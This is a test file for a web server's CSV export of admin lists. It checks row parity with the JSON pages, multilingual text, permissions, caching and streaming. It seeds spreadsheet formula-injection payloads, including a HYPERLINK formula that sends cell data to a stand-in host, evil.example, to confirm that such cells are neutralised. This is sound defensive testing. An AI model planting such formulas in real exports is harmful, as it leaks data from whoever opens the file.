// Every list exports as CSV (`format=csv`): the same route, guard, search, order and reference as its
// JSON pages, the whole list in one streamed file (src/server/http/list.ts exportListQuery, http/csv.ts,
// http/reply.ts answerList). What must hold: the file holds exactly the rows the JSON pages hold, in
// their order, whatever the search, the sort and its NULLs; text in any language survives (UTF-8 with a
// BOM); no cell can run as a spreadsheet formula; nobody exports what they may not list; an export is
// never kept as a list answer; and the server reads no further than the client does.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { CompiledQuery } from 'kysely';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { MAX_PAGE_SIZE } from '@shared/contract';
import { RESOURCES, type ResourceDeclaration } from '@shared/resources/index';
import { EXPORT_PLAN } from '@server/db/list';
import { insertNamedRows } from '../support/namedRows';
import { ADMIN, bearer, createUser, dialects, loginAs, seedTestDemo, startTestApp, type TestApp } from '../support/api';
import { parseCsv } from '../support/csv';
import { testFaq } from '../support/faq';

/** The product's lists and a throwaway declared one: a list added tomorrow is in this registry too. */
const REGISTRY: readonly ResourceDeclaration[] = [...RESOURCES, testFaq];
/** Lists that answer no CSV, each with the reason its module gives; every other list must export. */
const NOT_EXPORTED: Record<string, string> = {
  'get /api/audit/{entity}/{id}': "a record's history (its pages only; the audit trail exports it, filtered by the record)",
  'get /api/moderation/cases': "the desk's queue of cases, worked through, not exported (the report lists export the reports)",
  'get /api/trash': 'the deleted posts and itineraries, restored one by one or ticked, not exported (the post lists export the live ones)',
};
/** Lists whose export writes its rows in its own shape (the same rows and order, other cells). */
const OWN_SHAPE: Record<string, string> = {
  audit: 'the actor by name and the record by its page, where a JSON page looks them up (modules/audit/routes.ts)',
};
/** The registered resources whose list exports. */
const EXPORTED = REGISTRY.filter((r) => !Object.hasOwn(NOT_EXPORTED, `get /api${r.api.list}`));
const PASSWORD = 'Str0ng@Pass';
const DEFAULT_EXPORT = { ...EXPORT_PLAN };
const TODAY = () => new Date().toISOString().slice(0, 10);

/** A title that becomes three cells, the middle one a formula, where Excel splits on `;` (Turkish, German). */
const SEMICOLON_FORMULA = 'Nice trip;=HYPERLINK("http://evil.example/?d="&A1,"Click");x';

/**
 * The cell the rules ask for, from the value the JSON answer holds: each piece of a text (after a `,`,
 * `;`, tab or line break) that starts with a formula character, after spaces or quotes, gets a `'`.
 */
function cellOf(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return String(value);
  const text = typeof value === 'string' ? value : JSON.stringify(value);
  return text
    .split(/(?<=[,;\t\r\n])/)
    .map((piece) => (/^(?:[\s"]*[=+\-@]|[\t\r])/.test(piece) ? `'${piece}` : piece))
    .join('');
}

type Row = Record<string, unknown>;

describe.each(dialects)('list exports as CSV on %s', (dialect) => {
  let t: TestApp;
  let admin: string;
  const get = (url: string, token: string | null = admin) => t.app.inject({ url, headers: token ? bearer(token) : {} });
  const query = (params: Record<string, string | number | undefined>) =>
    new URLSearchParams(Object.entries(params).filter((e): e is [string, string | number] => e[1] !== undefined).map(([k, v]) => [k, String(v)])).toString();
  const order = (name: string, direction: 'ASC' | 'DESC') => JSON.stringify({ direction, name, type: 'default' });

  /** Every row of the JSON list, page after page of the largest size. */
  async function jsonRows(resource: ResourceDeclaration, params: Record<string, string | undefined> = {}): Promise<Row[]> {
    const rows: Row[] = [];
    for (let page = resource.api.pageBase; ; page++) {
      const res = await get(`/api${resource.api.list}?${query({ ...resource.api.query, ...params, page, limit: MAX_PAGE_SIZE })}`);
      expect(res.statusCode, res.body).toBe(200);
      const data = res.json().data.data as Row[];
      rows.push(...data);
      if (data.length < MAX_PAGE_SIZE) return rows;
    }
  }
  /** The CSV export of the same list, read: header and lines. */
  async function exported(resource: ResourceDeclaration, params: Record<string, string | undefined> = {}) {
    const res = await get(`/api${resource.api.list}?${query({ ...resource.api.query, ...params, format: 'csv' })}`);
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    expect(res.headers['content-type'], `${resource.name}: ${res.body.slice(0, 200)}`).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${resource.name}-${TODAY()}.csv"`);
    expect(res.headers['cache-control']).toBe('no-store');
    // UTF-8 with its byte order mark, so that Excel reads Turkish and Arabic as they are
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...lines] = parseCsv(res.rawPayload.subarray(3).toString('utf8'));
    return { header, lines, text: res.rawPayload.toString('utf8') };
  }
  /** The export and the JSON pages of one list hold the same rows, cell for cell, in the same order. */
  async function sameAsJson(resource: ResourceDeclaration, params: Record<string, string | undefined> = {}) {
    const [json, csv] = [await jsonRows(resource, params), await exported(resource, params)];
    const what = `${resource.name} ${JSON.stringify(params)}`;
    expect(csv.lines.length, what).toBe(json.length);
    const id = csv.header.indexOf('id');
    expect(id, what).toBeGreaterThanOrEqual(0);
    expect(csv.lines.map((line) => line[id]), what).toEqual(json.map((row) => String(row.id)));
    if (Object.hasOwn(OWN_SHAPE, resource.name)) return { json, csv };
    if (json.length) expect(csv.header).toEqual(Object.keys(json[0]));
    expect(csv.lines, what).toEqual(json.map((row) => csv.header.map((field) => cellOf(row[field]))));
    return { json, csv };
  }
  const named = (name: string) => REGISTRY.find((r) => r.name === name)!;

  beforeAll(async () => {
    t = await startTestApp(dialect, { listCacheMs: 1000 }, { resources: REGISTRY });
    admin = (await loginAs(t, ADMIN.email, ADMIN.password)).token;
    const rows = { users: 25, subAdmins: 6, spots: 25, posts: 30, itineraries: 12, categories: 6, tags: 8, reportCategories: 4, reports: 36, comments: 30, contentPages: 4 };
    await seedTestDemo(t, rows, PASSWORD, 11);
    // names in the three languages, and posts without a description (NULLs in a sorted column)
    const turkish = await createUser(t, { email: 'sukru@example.com', password: PASSWORD, user_type: 'User', name: 'Şükrü Çelik' });
    const arabic = await createUser(t, { email: 'ahmad@example.com', password: PASSWORD, user_type: 'User', name: 'أحمد علي' });
    const stamp = (i: number) => new Date(Date.UTC(2025, 0, 1 + i)).toISOString();
    await t.ctx.db
      .insertInto('posts')
      .values(
        Array.from({ length: 24 }, (_, i) => ({
          type: i % 3 === 0 ? 'itinerary' : 'post',
          user_id: i % 2 ? turkish : arabic,
          title: i % 2 ? `Kadıköy çarşısı ${i}` : `جولة في القاهرة ${i}`,
          description: i % 4 === 0 ? null : `${i % 2 ? 'Balık, "ekmek" ve çay' : 'سوق خان الخليلي'}\n#${i}`,
          latitude: null,
          longitude: null,
          itinerary_date: null,
          is_planeed: '0',
          is_public: 1,
          sequence: i % 3 === 1 ? -5 : i % 5,
          created_at: stamp(i),
          updated_at: stamp(i),
          deleted_at: null,
        })),
      )
      .execute();
    await t.ctx.db
      .insertInto('posts')
      .values({ type: 'post', user_id: turkish, title: SEMICOLON_FORMULA, description: 'x; -1', latitude: null, longitude: null, itinerary_date: null, is_planeed: '0', is_public: 1, created_at: stamp(30), updated_at: stamp(30), deleted_at: null })
      .execute();
    // names a spreadsheet would run, and names that need quoting
    await insertNamedRows(t.ctx.db, 'categories', [
      { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', status: 'Active' },
      { name: '+1', status: 'Active' },
      { name: '-2', status: 'Active' },
      { name: '@SUM(A1:A9)', status: 'Active' },
      { name: '\tTabbed', status: 'Active' },
      { name: 'Çay, "simit"\r\nve deniz', status: 'Inactive' },
      { name: 'مقهى, "شاي"', status: 'Active' },
    ]);
    for (let i = 0; i < 3; i++) await t.ctx.db.insertInto('test_faqs' as never).values({ question: `Soru ${i}?`, answer: `Yanıt ${i}`, status: 'Active', created_at: stamp(i), updated_at: stamp(i), search_text: '' } as never).execute();
  });
  afterAll(async () => t.close());
  afterEach(() => Object.assign(EXPORT_PLAN, DEFAULT_EXPORT));

  it('documents `format=csv` and text/csv on every list call, and on nothing else', async () => {
    type Op = { parameters?: { name: string; in: string }[]; responses: Record<string, { content?: Record<string, { schema?: { properties?: { data?: { properties?: Record<string, unknown> } } } }> }> };
    const doc = (await get('/api/docs/json')).json() as { paths: Record<string, Record<string, Op>> };
    const lists: string[] = [];
    const exports: string[] = [];
    for (const [p, item] of Object.entries(doc.paths)) {
      for (const [method, op] of Object.entries(item)) {
        const ok = op.responses['200']?.content;
        if (ok?.['application/json']?.schema?.properties?.data?.properties?.meta) lists.push(`${method} ${p}`);
        if (ok?.['text/csv'] && op.parameters?.some((q) => q.in === 'query' && q.name === 'format')) exports.push(`${method} ${p}`);
      }
    }
    expect(exports.sort()).toEqual(lists.filter((op) => !Object.hasOwn(NOT_EXPORTED, op)).sort());
    expect(lists).toEqual(expect.arrayContaining(Object.keys(NOT_EXPORTED)));
    // …and every one of them is the list of a registered resource, exported in the next test
    const registered = new Set(EXPORTED.map((r) => `get /api${r.api.list}`));
    expect(exports.filter((op) => !registered.has(op))).toEqual([]);
  });

  it('exports every list of the registry: the same rows, cells and order as its JSON pages', async () => {
    // every list compared; the ones this file fills with rows must have exported some (a resource a
    // developer adds beside them may be empty)
    const exportedLists: string[] = [];
    for (const resource of EXPORTED) {
      const { csv } = await sameAsJson(resource);
      if (csv.lines.length > 0) exportedLists.push(resource.name);
    }
    expect(exportedLists).toEqual(
      expect.arrayContaining(['user', 'subadmin', 'post', 'itinerary', 'spot', 'report', 'reportedComments', 'reportedUsers', 'category', 'tag', 'reportCategories', 'contentmanagement', 'emailtemplate', 'testfaq']),
    );
  });

  it('follows the search and the sort, NULLs and runs of equal values included, through walks of a few rows', async () => {
    // a walk of 4 rows and reads of 3: every list is many walks, each sort value's run crosses them
    Object.assign(EXPORT_PLAN, { walkRows: 4, rowsPerRead: 3 });
    const cases: [string, Record<string, string>][] = [
      ['post', {}],
      ['post', { order: order('title', 'ASC') }],
      ['post', { order: order('description', 'ASC') }],
      ['post', { order: order('description', 'DESC') }],
      ['post', { order: order('is_planeed', 'ASC') }],
      ['post', { order: order('sequence', 'DESC'), filter: 'kadikoy' }],
      ['post', { filter: 'القاهرة', order: order('user', 'ASC') }],
      ['itinerary', { order: order('user', 'DESC') }],
      ['user', { order: order('name', 'DESC') }],
      ['user', { filter: 'şükrü' }],
      ['user', { order: order('location', 'ASC') }],
      ['user', { order: order('phone', 'DESC') }],
      ['subadmin', { order: order('email', 'ASC') }],
      ['spot', { order: order('country', 'ASC') }],
      ['spot', { order: order('created_by', 'DESC'), filter: 'a' }],
      ['report', { order: order('comment', 'ASC') }],
      ['report', { order: order('comment', 'DESC') }],
      ['reportedComments', { order: order('comment', 'DESC') }],
      ['reportedUsers', { order: order('status', 'ASC') }],
      ['category', { order: order('status', 'DESC') }],
      ['category', { filter: 'çay' }],
      ['tag', { order: order('created_at', 'ASC') }],
      ['contentmanagement', { order: order('title', 'ASC') }],
      ['emailtemplate', { filter: 'password' }],
      ['testfaq', { order: order('question', 'DESC') }],
    ];
    let searched = 0;
    for (const [name, params] of cases) {
      const { json } = await sameAsJson(named(name), params);
      if (params.filter && json.length) searched++;
    }
    // the searches found rows (not all empty answers)
    expect(searched).toBeGreaterThanOrEqual(5);
    // Turkish and Arabic text came through as it is
    const { lines, header } = await exported(named('post'), { filter: 'kadıköy' });
    expect(lines.length).toBeGreaterThan(5);
    expect(lines.every((line) => line[header.indexOf('title')].startsWith('Kadıköy çarşısı'))).toBe(true);
    expect(lines.some((line) => line[header.indexOf('user')] === 'Şükrü Çelik')).toBe(true);
    const arabic = await exported(named('post'), { filter: 'خان' });
    expect(arabic.lines.length).toBeGreaterThan(3);
    expect(arabic.lines.every((line) => line[arabic.header.indexOf('description')].startsWith('سوق خان الخليلي\n#'))).toBe(true);
  });

  it('honours a reference and `ids`, and ignores page and limit', async () => {
    Object.assign(EXPORT_PLAN, { walkRows: 5, rowsPerRead: 2 });
    const { id: author } = await t.ctx.db.selectFrom('users').select('id').where('email', '=', 'sukru@example.com').executeTakeFirstOrThrow();
    const { json } = await sameAsJson(named('post'), { reference: 'user_id', reference_id: String(author) });
    expect(json.length).toBeGreaterThan(3);
    expect(json.every((p) => p.user_id === author)).toBe(true);
    const some = json.slice(0, 3).map((p) => p.id);
    const byIds = await exported(named('post'), { ids: some.join(',') });
    expect(byIds.lines.map((line) => Number(line[0]))).toEqual(some);
    const paged = await exported(named('post'), { page: '3', limit: '5' });
    expect(paged.lines.length).toBe((await jsonRows(named('post'))).length);
  });

  it('neutralises cells a spreadsheet would run, and quotes what needs quoting', async () => {
    const { header, lines, text } = await exported(named('category'), { order: order('id', 'ASC') });
    const names = lines.map((line) => line[header.indexOf('name')]);
    expect(names).toEqual(
      expect.arrayContaining([
        `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
        "'+1",
        "'-2",
        "'@SUM(A1:A9)",
        "'\tTabbed",
        'Çay, "simit"\r\nve deniz',
        'مقهى, "شاي"',
      ]),
    );
    // no cell starts with a formula character
    for (const line of lines) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // as written: quoted, quotes doubled, CRLF inside the quotes
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(text).toContain('"Çay, ""simit""\r\nve deniz"');
    // every text cell quoted, each piece a `;` locale would split off neutralised, as the bytes are written
    const trip = await get(`/api/post?type=post&format=csv&filter=${encodeURIComponent('nice trip')}`);
    const [head, line] = trip.rawPayload.subarray(3).toString('utf8').split('\r\n');
    expect(head.split(',').slice(0, 3)).toEqual(['"id"', '"type"', '"title"']);
    expect(line).toContain(`,"Nice trip;'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"");x","x;' -1",`);
    // a number stays a number, a negative one too: no spreadsheet runs -5
    const posts = await exported(named('post'), { order: order('sequence', 'ASC') });
    expect(posts.lines[0][posts.header.indexOf('sequence')]).toBe('-5');
  });

  it('refuses an export exactly as the list: anonymous 401, without the permission 403, a bad format 400', async () => {
    await createUser(t, { email: 'spots-only@example.com', password: PASSWORD, user_type: 'Sub-Admin', permissions: ['Spot-list'] });
    const spotsOnly = (await loginAs(t, 'spots-only@example.com', PASSWORD)).token;
    const refusal = (res: { statusCode: number; json: () => { status: number; message: string } }) => ({ statusCode: res.statusCode, message: res.json().message });
    for (const resource of EXPORTED) {
      const url = `/api${resource.api.list}?${query({ ...resource.api.query })}`;
      for (const token of [null, spotsOnly]) {
        const [asJson, asCsv] = [await get(url, token), await get(`${url}&format=csv`, token)];
        if (asJson.statusCode === 200) {
          expect(asCsv.statusCode, `${resource.name}`).toBe(200);
          continue;
        }
        expect(refusal(asCsv), `${resource.name} ${token ? 'Spot-list' : 'anonymous'}`).toEqual(refusal(asJson));
        expect(asCsv.headers['content-type']).toMatch(/^application\/json/);
      }
    }
    expect((await get('/api/post?type=post&format=csv', spotsOnly)).statusCode).toBe(403);
    expect((await get('/api/user/reports?type=user&format=csv', spotsOnly)).statusCode).toBe(403);
    expect((await get('/api/post?type=post&format=csv', null)).statusCode).toBe(401);
    expect((await get('/api/spot?format=csv', spotsOnly)).statusCode).toBe(200);
    for (const bad of ['xml', 'CSV', '', 'csv&format=csv']) {
      const res = await get(`/api/post?type=post&format=${bad}`);
      expect(res.statusCode, bad).toBe(400);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
    }
    // a bad sort is refused before anything is sent, in the envelope
    expect((await get(`/api/post?type=post&format=csv&order=${encodeURIComponent(order('password', 'ASC'))}`)).statusCode).toBe(400);
  });

  it('answers a failure before the file starts in the envelope, as any other call', async () => {
    const original = t.ctx.db.executeQuery.bind(t.ctx.db);
    const spy = vi.spyOn(t.ctx.db, 'executeQuery').mockImplementation((query) => {
      if (/max\(/.test((query as CompiledQuery).sql)) throw new Error('the database went away');
      return original(query);
    });
    try {
      const res = await get('/api/tag?format=csv');
      expect(res.statusCode).toBe(500);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.json()).toMatchObject({ status: 500, data: null });
    } finally {
      spy.mockRestore();
    }
    expect((await get('/api/tag?format=csv')).statusCode).toBe(200);
  });

  it('never keeps an export as a list answer: a write shows in the next export', async () => {
    const before = t.ctx.answerCache.size;
    const url = '/api/tag?format=csv&filter=lantern';
    const first = await get(url);
    expect(first.statusCode).toBe(200);
    expect(parseCsv(first.rawPayload.subarray(3).toString('utf8')).length).toBe(1);
    // an export is written to the audit trail, a write, which forgets every kept answer: none is added
    expect(t.ctx.answerCache.size).toBeLessThanOrEqual(before);
    const added = await t.app.inject({ method: 'POST', url: '/api/tag/create', headers: bearer(admin), payload: { name: ['lantern walk'], status: ['Active'] } });
    expect(added.statusCode, added.body).toBe(200);
    const again = parseCsv((await get(url)).rawPayload.subarray(3).toString('utf8'));
    expect(again.map((line) => line[1])).toEqual(['name', 'lantern walk']);
    // the JSON page of the same list is kept as before (the write forgot every kept answer), the export not
    expect(t.ctx.answerCache.size).toBe(0);
    expect((await get('/api/tag?filter=lantern')).json().data.data).toHaveLength(1);
    expect(t.ctx.answerCache.size).toBe(1);
    expect((await get(url)).headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(t.ctx.answerCache.size).toBe(0);
  });

  describe('streaming', () => {
    const ROWS = 12_000;
    let port: number;
    beforeAll(async () => {
      // rows of 2 KB: the file (24 MB) is far larger than what the sockets can hold
      const answer = 'x'.repeat(2000);
      for (let i = 0; i < ROWS; i += 500) {
        const batch = Array.from({ length: Math.min(500, ROWS - i) }, (_, j) => ({ question: `Big ${i + j}`, answer, status: 'Active', created_at: '2025-01-01', updated_at: '2025-01-01', search_text: '' }));
        await t.ctx.db.insertInto('test_faqs' as never).values(batch as never).execute();
      }
      await t.app.listen({ port: 0, host: '127.0.0.1' });
      port = (t.app.server.address() as AddressInfo).port;
    });
    /** The statements the server runs while `during` runs. */
    const counted = async (during: (statements: () => number) => Promise<void>) => {
      const spy = vi.spyOn(t.ctx.db, 'executeQuery');
      try {
        await during(() => spy.mock.calls.length);
      } finally {
        spy.mockRestore();
      }
    };
    const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
    /** Waits until the count of statements stops moving (for 300 ms), and answers it. */
    const settled = async (statements: () => number) => {
      for (let last = -1; ; ) {
        await wait(300);
        if (statements() === last) return last;
        last = statements();
      }
    };
    const request = () =>
      new Promise<http.IncomingMessage>((resolve, reject) => {
        http.get({ host: '127.0.0.1', port, path: '/api/testfaq?format=csv', headers: bearer(admin) }, resolve).on('error', reject);
      });

    it('streams the whole file, reading as the client reads', async () => {
      Object.assign(EXPORT_PLAN, { rowsPerRead: 100 });
      await counted(async (statements) => {
        const res = await request();
        expect(res.statusCode).toBe(200);
        expect(res.headers['transfer-encoding']).toBe('chunked');
        // a client that stops reading: the server stops reading the database soon after
        res.pause();
        const stalled = await settled(statements);
        expect(stalled).toBeLessThan(ROWS / 100 / 2);
        // reading again: the rest comes, every row once
        let lines = 0;
        let tail = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => {
          const text = tail + chunk;
          const parts = text.split('\r\n');
          tail = parts.pop()!;
          lines += parts.length;
        });
        res.resume();
        await new Promise((resolve) => res.on('end', resolve));
        expect(tail).toBe('');
        expect(lines).toBe(1 + ROWS + 3);
        expect(statements()).toBeGreaterThan(ROWS / 100);
      });
    });

    it('stops reading the database when the client goes away', async () => {
      Object.assign(EXPORT_PLAN, { rowsPerRead: 100 });
      await counted(async (statements) => {
        const res = await request();
        await new Promise((resolve) => res.once('data', resolve));
        res.destroy();
        const stopped = await settled(statements);
        expect(stopped).toBeLessThan(ROWS / 100 / 2);
        await wait(300);
        expect(statements()).toBe(stopped);
      });
      // and the server answers as before
      expect((await get('/api/testfaq?limit=1')).statusCode).toBe(200);
    });
  });
});
